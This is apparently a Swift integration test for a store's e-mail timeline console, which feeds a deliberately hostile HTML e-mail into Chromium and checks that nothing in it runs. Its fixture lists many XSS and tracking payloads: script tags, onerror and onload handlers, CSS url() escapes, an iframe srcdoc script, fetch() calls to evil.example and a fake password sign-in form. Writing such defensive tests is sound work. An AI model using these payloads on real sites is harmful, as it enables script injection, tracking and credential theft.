import Conversations
import Foundation
import Testing
import Timeline

extension IntegrationTests {
  /// Tests/Browser, which looks at a console of its own in Chromium.
  @Suite struct InBrowser {
    private static let folder = URL(fileURLWithPath: #filePath)
      .deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("Browser")

    /// All that an e-mail may try on whoever reads it.
    private static let hostile = """
      <html><head><base href="http://evil.example/base/"><meta http-equiv="refresh" content="0;url=http://evil.example/meta">
      <link rel="stylesheet" href="http://evil.example/link.css"><script src="http://evil.example/a.js"></script>
      <style>@import "http://evil.example/import.css"; @font-face{font-family:x;src:url(http://evil.example/font)}
      body{background:url(http://evil.example/css)} p{background:\\75\\72\\6c(http://evil.example/escape);font-family:x}
      div{background:-webkit-image-set("http://evil.example/set" 1x)}</style></head>
      <body onload="top.location='http://evil.example/onload'" background="http://evil.example/background">
      <p>Dear customer, <b>look</b> at this</p><script>document.title='pwned';fetch('http://evil.example/fetch')</script>
      <img src="http://evil.example/pixel.png" onerror="fetch('http://evil.example/onerror')" srcset="http://evil.example/srcset 1x">
      <img src=x onerror=alert(1)><svg onload="alert(1)"><image href="http://evil.example/svg"/></svg>
      <form action="http://evil.example/form"><input name="password"><button id="go">Sign in again</button></form>
      <a id="link" href="http://evil.example/click" target="_top" ping="http://evil.example/ping">your parcel</a>
      <a href="javascript:alert(1)">script</a><iframe src="http://evil.example/frame"></iframe>
      <iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe><object data="http://evil.example/object"></object>
      <embed src="http://evil.example/embed"><video src="http://evil.example/video" poster="http://evil.example/poster"></video>
      <audio src="http://evil.example/audio" autoplay></audio><div style="background:u&#114;l(http://evil.example/attribute)">end</div>
      <table background="http://evil.example/table"><tr><td>cell</td></tr></table><math href="http://evil.example/math">x</math>
      </body></html>
      """

    @Test(
      "in Chromium it looks and works as it should, with the keyboard alone and without scripts, and nothing hostile does anything"
    )
    func browser() async throws {
      let world = try await World()
      let site = try await Site(world)
      let worker = try world.startWorker()
      try publishOrders(to: world)
      try await eventually {
        try world.count("select count(*) from entry") == 63 && world.count("select count(*) from dead_letter") == 2
      }
      let settings = [
        "CONSOLE_URL": site.base, "ADMIN_TOKEN": try site.token(.storeAdmin, "acme"),
        "OPERATOR_TOKEN": try site.token(.operator, nil), "SCREENSHOTS": try Servers.setting("TEST_SCREENSHOTS"),
        "PYTHONDONTWRITEBYTECODE": "1",
      ]
      // The slow ones wait for the console to lose patience, and need no browser meanwhile.
      let tests = try ["test_*.py", "slow_*.py"].map { pattern in
        try Program(
          ["-m", "unittest", "discover", "--start-directory", Self.folder.path, "--pattern", pattern, "--verbose"],
          of: Servers.setting("TEST_BROWSER_PYTHON"), settings: settings, in: world.directory)
      }
      for test in tests {
        let outcome = try test.wait()
        #expect(outcome.status == 0, "\(outcome.errors)")
        #expect(outcome.errors.contains("\nOK") && !outcome.errors.contains("Ran 0 tests"))
      }
      worker.send(SIGTERM)
      #expect(try worker.wait().status == 0)
      try site.stop()
    }

    private func publishOrders(to world: World) throws {
      var events: [Event] = []
      for number in 0..<30 {
        let order = "v\(502_559 + number)llux-01"
        events.append(
          Event("sent-\(number)").with {
            $0.order = order
            $0.text =
              "Hello Maria,\n\nyour order \(order) has left our warehouse and arrives in two to three days.\n\nAcme"
            $0.changes = [
              (
                "data.email.attachments",
                [["fileName": "invoice-\(number).pdf", "contentType": "application/pdf", "size": 48_211]]
                  as [[String: Any]]
              )
            ]
          })
        events.append(
          Event("received-\(number)").with {
            $0.type = "email-received"
            $0.order = order
            $0.from = ["name": "Maria Silva", "address": "maria.silva@example.com"]
            $0.to = [["name": "Acme", "address": "orders@acme.example"]]
            $0.subject = "Re: Your order has shipped"
            $0.text = "Thank you! Can you leave it with my neighbour, pedro@example.org?"
          })
      }
      events.append(
        Event("hostile").with {
          $0.order = "hostile-1"
          $0.type = "email-received"
          $0.from = ["name": "<script>alert(1)</script>", "address": "eve@example.net"]
          $0.to = [["address": "orders@acme.example"]]
          $0.subject = "<img src=http://evil.example/subject onerror=alert(1)>"
          $0.changes = [("data.email.html", Self.hostile)]
        })
      events.append(Event("other").with { $0.store = "globex" })
      events.append(
        Event("many").with {
          $0.order = "many-1"
          $0.subject = String(repeating: "Unbreakable", count: 20)
          $0.to = (0..<12).map { ["name": "Customer number \($0)", "address": "customer\($0)@example.com"] }
        })
      for store in ["acme", "globex"] {
        events.append(
          Event("orderless-\(store)").with {
            $0.order = nil
            $0.store = store
          })
      }
      try world.publish(events.map(\.message))
    }
  }
}
